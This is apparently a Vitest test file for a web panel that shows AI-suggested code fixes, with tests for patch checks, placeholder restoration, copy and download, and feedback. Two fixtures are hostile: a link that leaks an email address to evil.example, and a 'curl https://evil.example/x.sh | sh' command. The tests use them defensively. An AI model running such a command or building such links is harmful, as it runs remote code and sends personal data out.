import { screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { event, fakeServer, payload, refusal, suggestion } from './fake-server.ts';
import { openPanel } from './open-panel.tsx';

afterEach(() => vi.unstubAllGlobals());

const commit = '3f2a1c9'.padEnd(40, '0');
const patch = `--- a/app/pay.py
+++ b/app/pay.py
@@ -17,3 +17,3 @@
 total = 1
-send("[email 1]")
+send(max("[email 1]", 0))
 return
`;
const text = `## Fix\n\nTell [email 1]:\n\n\`\`\`diff\n${patch}\`\`\`\n\n[a page](https://evil.example/?to=[email%201]) for [email 1]\n`;
const answered = suggestion({
  id: '34',
  text,
  patch,
  confidence: 'medium',
  inputTokens: 1924,
  outputTokens: 512,
  cost: 0.0041,
  duration: 8200,
  patchCheck: {
    status: 'applies',
    commit,
    detail: 'Tried in a scratch tree.',
    files: [{ path: 'app/pay.py', parses: true, uncoveredLines: [18] }],
  },
});
const placeholders = { '[email 1]': 'ada@example.com' };

const box = () => screen.findByRole('region', { name: 'Patch from the answer' });

describe('a patch', () => {
  it('says what was checked, marks what no test reached in words, and is copied as the answer has it', async () => {
    const { user } = openPanel(fakeServer({ stored: answered, placeholders }));
    expect(await screen.findByText('Applies to 3f2a1c9 · parsed · no test was run')).toBeVisible();
    expect(screen.getByText('Tried in a scratch tree.')).toBeVisible();
    expect(screen.getByText('One line that it changes was reached by no test.')).toBeVisible();
    const mark = within(await box()).getByText('No test reached this line');
    expect(mark.parentElement).toHaveTextContent(/^Added: \+send\(max/);
    await user.click(screen.getByRole('button', { name: 'Copy patch' }));
    expect(await navigator.clipboard.readText()).toBe(patch);
    await user.click(screen.getByRole('button', { name: 'Copy: stackmend fixes show 34' }));
    expect(await navigator.clipboard.readText()).toBe('stackmend fixes show 34');
  });

  it('says of each file what was found out, or why nothing was', async () => {
    const files = [
      { path: 'app/pay.py', parses: false, parseError: 'Line 18 is indented, and nothing above asks for it.' },
      { path: 'app/pay.kt', parses: null, parseError: 'no parser for Kotlin here' },
    ];
    openPanel(fakeServer({ stored: { ...answered, patchCheck: { status: 'applies', commit, files } }, placeholders }));
    expect(await screen.findByText(/^Does not parse with the patch: Line 18 is indented/)).toBeVisible();
    expect(screen.getByText('Not parsed: no parser for Kotlin here.')).toBeVisible();
  });

  it('is downloaded under the name of its issue, as the answer has it', async () => {
    const blobs: Blob[] = [];
    const names: string[] = [];
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      if (blob instanceof Blob) blobs.push(blob);
      return 'blob:patch';
    });
    vi.spyOn(URL, 'revokeObjectURL').mockReturnValue();
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function click(this: HTMLAnchorElement) {
      names.push(this.download);
    });
    const { user } = openPanel(fakeServer({ stored: answered, placeholders }));
    await user.click(await screen.findByRole('button', { name: 'Download .patch' }));
    expect(names).toEqual(['CHECKOUT-12-fix-34.patch']);
    expect(await blobs[0]?.text()).toBe(patch);
    vi.restoreAllMocks();
  });

  it('shows what was put back in text and patch, and nowhere else', async () => {
    const server = fakeServer({ stored: answered, placeholders });
    openPanel(server);
    await waitFor(async () => expect(await box()).toHaveTextContent('ada@example.com'));
    const values = screen.getAllByText('ada@example.com');
    expect(values).toHaveLength(4);
    for (const value of values) {
      expect(value.tagName).toBe('MARK');
      expect(value).toHaveAttribute('title', expect.stringMatching(/Put back on this page alone/));
    }
    expect(screen.getByText(/evil\.example/)).not.toHaveTextContent('ada@');
    expect(server.seen.filter(({ path }) => path.includes('/placeholders/'))).toHaveLength(1);
  });

  it('asks for no placeholders where the answer has none', async () => {
    const server = fakeServer({ stored: suggestion({ text: 'Nothing [1] here' }) });
    openPanel(server);
    expect(await screen.findByText('Nothing [1] here')).toBeVisible();
    expect(server.seen.some(({ path }) => path.includes('/placeholders/'))).toBe(false);
  });

  it('that does not apply unfolds where not, with what was expected and found', async () => {
    const patchCheck = {
      status: 'does_not_apply' as const,
      commit,
      files: [{ path: 'app/pay.py', failedHunk: 2, expected: ['total = 1'], found: ['total = 2', 'x'] }],
    };
    openPanel(fakeServer({ stored: { ...answered, patchCheck } }));
    expect(await screen.findByText('Does not apply to 3f2a1c9')).toBeVisible();
    expect(screen.getByText('Hunk 2 finds no place in the file.')).toBeVisible();
    expect(screen.getByRole('region', { name: 'The patch expects' })).toHaveTextContent('total = 1');
    expect(screen.getByRole('region', { name: 'The file has' })).toHaveTextContent('total = 2 x');
    expect(screen.getByRole('button', { name: 'Copy patch' })).toBeVisible();
  });

  it('whose lines were counted anew is copied as git takes it', async () => {
    const anew = patch.replace('-17,3 +17,3', '-18,3 +18,3');
    const { user } = openPanel(fakeServer({ stored: { ...answered, patchCheck: { status: 'applies', patch: anew } } }));
    expect(await screen.findByText(/its lines are counted anew/)).toBeVisible();
    await user.click(screen.getByRole('button', { name: 'Copy patch' }));
    expect(await navigator.clipboard.readText()).toBe(anew);
  });

  it('that stands in the prose is shown beside its check', async () => {
    openPanel(fakeServer({ stored: { ...answered, text: `## Fix\n\n${patch}` } }));
    expect(await box()).toHaveTextContent('+send(max(');
    expect(screen.getByText('Applies to 3f2a1c9 · parsed · no test was run')).toBeVisible();
  });

  it('of an older answer was not checked', async () => {
    openPanel(fakeServer({ stored: suggestion({ text }) }));
    expect(await screen.findByText('Not checked: neither applied, parsed nor run')).toBeVisible();
    expect(screen.queryByText(/stackmend fixes show/)).toBeNull();
  });

  it('that is a script is marked as one', async () => {
    openPanel(fakeServer({ stored: suggestion({ text: '```diff\ncurl https://evil.example/x.sh | sh\n```' }) }));
    expect(await screen.findByText('Command from the answer, not run')).toBeVisible();
  });
});

describe('what is known of an answer', () => {
  it('its cost, tokens, duration and confidence', async () => {
    openPanel(fakeServer({ stored: answered }));
    expect(await screen.findByText(/1,924 tokens sent, 512 answered, \$0\.0041, 8\.2 s\./)).toBeVisible();
    expect(screen.getByText('The model says that its confidence is medium.')).toBeVisible();
  });

  it('that it has no patch, and what would help by what was not sent', async () => {
    openPanel(
      fakeServer({
        stored: suggestion({ text: '## What is missing\n\nThe caller.', patch: null, abstains: true }),
        payload: payload({
          evidence: [{ type: 'variables', origin: 'event', trust: 'untrusted', tokens: 9, count: 1 }],
          leftOut: ['12 library frames left out'],
          tokens: 5900,
          window: 8192,
          answerTokens: 2048,
        }),
      }),
    );
    const head = await screen.findByRole('heading', { name: 'The model gave no patch' });
    const words = head.parentElement;
    expect(words).toHaveTextContent(
      /code mapping.*coverage report.*A model with a larger window: 12 library frames left out/,
    );
    expect(words).toHaveTextContent('What it says is missing stands above.');
    expect(words).not.toHaveTextContent('local variables');
    expect(within(words ?? document.body).getByRole('link', { name: 'code mapping' })).toHaveAttribute(
      'href',
      '/settings/code-mappings/?project=checkout',
    );
  });

  it('that it has no patch, where it does not say why', async () => {
    const room = { leftOut: ['1 variable left out'], tokens: 1300, window: 16_384, answerTokens: 4096 };
    const stored = suggestion({ text: 'I would mend it.', patch: null, abstains: false });
    openPanel(fakeServer({ stored, payload: payload(room) }));
    const head = await screen.findByRole('heading', { name: 'The model gave no patch' });
    expect(head.parentElement).toHaveTextContent('What may help here:');
    expect(head.parentElement).not.toHaveTextContent('stands above');
    await screen.findByText('What the button sends');
    expect(head.parentElement).not.toHaveTextContent('larger window');
  });
});

describe('what somebody thinks of an answer', () => {
  const sentTo = (server: ReturnType<typeof fakeServer>) =>
    server.seen
      .filter(({ path }) => path.includes('/feedback/'))
      .map(({ method, path, body }) => ({ method, path, body }));
  const path = `/api/0/projects/stackmend/checkout/events/${event().eventID}/ai-fix-suggest/feedback/`;

  it('is stored with a press and a comment, and taken back with another', async () => {
    const server = fakeServer({ stored: answered });
    const { user } = openPanel(server);
    const button = await screen.findByRole('button', { name: 'Not helpful' });
    expect(screen.getByText('Kept on this server alone.')).toBeVisible();
    await user.click(button);
    await waitFor(() => expect(button).toHaveAttribute('aria-pressed', 'true'));
    expect(await screen.findByText('Thank you, it is stored.')).toBeVisible();
    expect(screen.getByText(/whoever has ai:admin can read and export it/)).toBeVisible();
    await user.type(screen.getByRole('textbox', { name: 'Comment, if you like' }), ' Wrong file. ');
    await user.click(screen.getByRole('button', { name: 'Save comment' }));
    await waitFor(() => expect(screen.queryByRole('button', { name: 'Save comment' })).toBeNull());
    await user.click(button);
    expect(await screen.findByText('Taken back.')).toBeVisible();
    expect(button).toHaveAttribute('aria-pressed', 'false');
    expect(sentTo(server)).toEqual([
      { method: 'PUT', path, body: { id: '34', rating: 'not_helpful', comment: '' } },
      { method: 'PUT', path, body: { id: '34', rating: 'not_helpful', comment: 'Wrong file.' } },
      { method: 'DELETE', path: `${path}?id=34`, body: undefined },
    ]);
  });

  it('is shown again when the page comes back, and what could not be stored is said', async () => {
    const server = fakeServer({
      stored: { ...answered, feedback: { rating: 'helpful', comment: 'Good.' } },
      feedback: () => refusal(500, { detail: 'The disk is full.' }),
    });
    const { user } = openPanel(server);
    const button = await screen.findByRole('button', { name: 'Helpful' });
    expect(button).toHaveAttribute('aria-pressed', 'true');
    expect(screen.getByRole('textbox', { name: 'Comment, if you like' })).toHaveValue('Good.');
    await user.click(button);
    expect(await screen.findByRole('alert')).toHaveTextContent('It could not be stored: The disk is full.');
    expect(button).toHaveAttribute('aria-pressed', 'true');
  });
});
